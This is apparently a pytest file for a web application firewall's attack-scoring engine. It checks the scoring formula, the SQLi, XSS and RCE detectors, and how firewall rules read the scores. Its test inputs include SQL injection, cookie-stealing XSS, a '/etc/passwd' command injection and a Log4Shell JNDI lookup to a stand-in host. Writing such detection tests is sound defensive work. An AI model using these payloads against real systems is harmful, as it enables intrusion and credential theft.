"""The WAF attack scores: the formula, the detectors on benign and attack requests, and how the firewall computes them
(on first read, before any phase acts, counting the CRS's family scores when the zone runs the Core Ruleset)."""

from __future__ import annotations

from typing import Any

import pytest
from bench.waf_requests import attack_requests, benign_requests
from hypothesis import given
from hypothesis import strategies as st

from edgeplane.rules import RequestFields
from edgeplane.waf.attack_scores import (
    CLEAN,
    NOT_COMPUTED,
    NOT_SCORED,
    AttackScores,
    Evidence,
    attack_scorer,
    score_of,
    scores_of,
)
from edgeplane.waf.catalogue import OWASP_RULESET_ID
from edgeplane.waf.core_ruleset import crs_installed
from edgeplane.waf.events import attack_score_fields, firewall_event_records
from edgeplane.waf.firewall import ALLOWED, compile_firewall, deploy_managed_rulesets, scored_verdict
from tests.waf.corpus import Sample, rpc

CUSTOM = "http_request_firewall_custom"
MANAGED = "http_request_firewall_managed"
SQLI_PARAM = "1' UNION SELECT password FROM users--"

points = st.integers(min_value=0, max_value=10_000)
evidence = st.builds(Evidence, sqli=points, xss=points, rce=points, other=points)


def rpc_request(*params: Any, query: str = "", user_agent: bytes = b"web3.py/7") -> RequestFields:
    return Sample("scored", rpc("eth_call", list(params)), query=query, user_agent=user_agent).fields()


def custom_block(expression: str) -> dict[str, Any]:
    return {"id": "by-score", "action": "block", "expression": expression}


# The formula.


@pytest.mark.parametrize(
    ("points", "score"),
    [(0, 99), (-3, 99), (1, 82), (2, 68), (5, 40), (10, 16), (15, 7), (20, 3), (25, 2), (40, 1), (10**6, 1)],
)
def test_score_of_points(points: int, score: int) -> None:
    assert score_of(points) == score


@given(points)
def test_a_score_is_between_1_and_99(found: int) -> None:
    assert 1 <= score_of(found) <= CLEAN


@given(points, points)
def test_more_evidence_never_raises_a_score(found: int, more: int) -> None:
    assert score_of(found + more) <= score_of(found)


@given(evidence)
def test_the_overall_score_is_never_above_a_family_score(found: Evidence) -> None:
    scores = scores_of(found)
    assert all(1 <= score <= CLEAN for score in scores.as_tuple())
    assert scores.overall <= min(scores.sqli, scores.xss, scores.rce)
    assert scores.computed


@given(evidence, evidence)
def test_more_evidence_in_any_family_never_raises_any_score(found: Evidence, more: Evidence) -> None:
    together = Evidence(
        sqli=found.sqli + more.sqli,
        xss=found.xss + more.xss,
        rce=found.rce + more.rce,
        other=found.other + more.other,
    )
    for before, after in zip(scores_of(found).as_tuple(), scores_of(together).as_tuple(), strict=True):
        assert after <= before


def test_not_computed_is_100() -> None:
    assert NOT_COMPUTED.as_tuple() == (NOT_SCORED,) * 4 == (100,) * 4
    assert not NOT_COMPUTED.computed
    assert attack_score_fields(None) == {
        "WAFAttackScore": 100,
        "WAFSQLiAttackScore": 100,
        "WAFXSSAttackScore": 100,
        "WAFRCEAttackScore": 100,
    }


# The detectors.


def fields_of(request: Any) -> RequestFields:
    return RequestFields.from_http(
        method=request.method,
        scheme="http",
        host=request.host,
        raw_path=request.path,
        query=request.query,
        headers=list(request.headers),
        body=request.body,
        client_ip="192.0.2.1",
    )


def test_benign_json_rpc_from_real_clients_is_clean() -> None:
    scorer = attack_scorer()
    unclean = [(each.label, scorer.score(fields_of(each))) for each in benign_requests()]
    assert [item for item in unclean if item[1] != AttackScores(99, 99, 99, 99)] == []


@pytest.mark.parametrize("kind", ["sqli", "xss", "rce", "log4j", "java", "php", "traversal"])
def test_every_attack_of_the_benchmark_is_at_least_a_likely_attack(kind: str) -> None:
    scorer = attack_scorer()
    attacks = [each for each in attack_requests() if each.label.split("/")[0] == kind]
    assert attacks
    for each in attacks:
        assert scorer.score(fields_of(each)).overall <= 50, each.label


@pytest.mark.parametrize(
    ("params", "family"),
    [
        ([SQLI_PARAM], "sqli"),
        ([{"data": "1 OR 1=1 --"}], "sqli"),
        (['"><script>alert(document.cookie)</script>'], "xss"),
        (["<img src=x onerror=alert(1)>"], "xss"),
        (["; cat /etc/passwd"], "rce"),
        (["${jndi:ldap://evil.example/a}"], "rce"),
    ],
)
def test_a_family_scores_its_attack_in_a_json_rpc_param(params: list[Any], family: str) -> None:
    scores = attack_scorer().score(rpc_request(*params))
    assert getattr(scores, family) <= 50
    assert scores.overall <= getattr(scores, family)


def test_an_sqli_payload_in_a_json_rpc_param_is_an_attack() -> None:
    scores = attack_scorer().score(rpc_request(SQLI_PARAM))
    assert scores.sqli < 20
    assert scores.overall < 20


@pytest.mark.parametrize(
    ("query", "user_agent"),
    [
        ("q=1%27%20OR%20%271%27%3D%271", b"web3.py/7"),
        ("", b"' OR 1=1 -- "),
        ("a=%3Cscript%3Ealert(1)%3C/script%3E", b"x"),
    ],
)
def test_query_arguments_and_headers_are_inspected(query: str, user_agent: bytes) -> None:
    assert attack_scorer().score(rpc_request(query=query, user_agent=user_agent)).overall <= 50


def test_hex_values_and_method_names_cost_nothing() -> None:
    request = rpc_request({"to": "0x" + "ab" * 20, "data": "0x" + "00" * 300}, "latest")
    assert attack_scorer().score(request) == AttackScores(99, 99, 99, 99)


# How the firewall computes them.


def test_a_custom_rule_reads_the_scores_before_the_managed_phase() -> None:
    firewall = compile_firewall({CUSTOM: [custom_block("cf.waf.score lt 20")]})
    verdict = firewall.evaluate(rpc_request(SQLI_PARAM))
    assert verdict.blocked
    assert verdict.terminal is not None
    assert verdict.terminal.rule_id == "by-score"
    assert verdict.scores is not None
    assert verdict.scores.overall < 20


def test_a_benign_request_passes_a_score_rule_and_keeps_its_scores() -> None:
    firewall = compile_firewall({CUSTOM: [custom_block("cf.waf.score.sqli lt 20 or cf.waf.score.xss lt 20")]})
    verdict = firewall.evaluate(rpc_request({"to": "0x" + "11" * 20}, "latest"))
    assert not verdict.blocked
    assert verdict.matches == ()
    assert verdict.scores == AttackScores(99, 99, 99, 99)


def test_nothing_is_scored_when_nothing_reads_the_scores() -> None:
    firewall = compile_firewall({CUSTOM: [custom_block('http.request.uri.path eq "/admin"')]})
    request = rpc_request(SQLI_PARAM)
    assert firewall.evaluate(request) is ALLOWED
    assert not request.attack_scores_computed


def test_the_log_asks_for_scores() -> None:
    firewall = compile_firewall({CUSTOM: [custom_block('http.request.uri.path eq "/admin"')]})
    verdict = firewall.evaluate(rpc_request(SQLI_PARAM), score=True)
    assert not verdict.matches
    assert verdict.scores is not None
    assert verdict.scores.sqli < 20
    assert scored_verdict(rpc_request("latest")).scores == AttackScores(99, 99, 99, 99)


def test_a_managed_event_carries_the_scores_in_its_metadata() -> None:
    firewall = compile_firewall({MANAGED: deploy_managed_rulesets(managed=True)[:1]})
    verdict = firewall.evaluate(rpc_request(SQLI_PARAM), score=True)
    assert verdict.blocked
    assert verdict.scores is not None
    (event,) = firewall_event_records(verdict, {"RayID": "ab"}, datetime_ns=1, edge_status=403)
    assert event["Source"] == "firewallManaged"
    assert event["Metadata"]["waf_score"] == str(verdict.scores.overall)
    assert event["Metadata"]["waf_score_sqli"] == str(verdict.scores.sqli)
    unscored = firewall.evaluate(rpc_request(SQLI_PARAM))
    (event,) = firewall_event_records(unscored, {"RayID": "ab"}, datetime_ns=1, edge_status=403)
    assert "waf_score" not in event["Metadata"]


@pytest.mark.skipif(not crs_installed(), reason="the OWASP Core Rule Set is not installed")
def test_the_crs_family_scores_count_when_the_core_ruleset_runs() -> None:
    core_only = deploy_managed_rulesets(managed=False, score_threshold=5, core_action="log")
    assert core_only[0]["action_parameters"]["id"] == OWASP_RULESET_ID
    reads_scores = custom_block("cf.waf.score lt 1")
    without = compile_firewall({CUSTOM: [reads_scores]}).evaluate(rpc_request("1 OR 1=1"))
    with_crs = compile_firewall({CUSTOM: [reads_scores], MANAGED: core_only}).evaluate(rpc_request("1 OR 1=1"))
    assert without.scores is not None
    assert with_crs.scores is not None
    assert with_crs.scores.sqli < without.scores.sqli
    # The CRS ran for the scores in the custom phase; the Core Ruleset's execution in the managed phase still acts.
    (score_rule,) = with_crs.matches
    assert score_rule.ruleset_id == OWASP_RULESET_ID
    assert "942" in score_rule.metadata["crs_rules"]
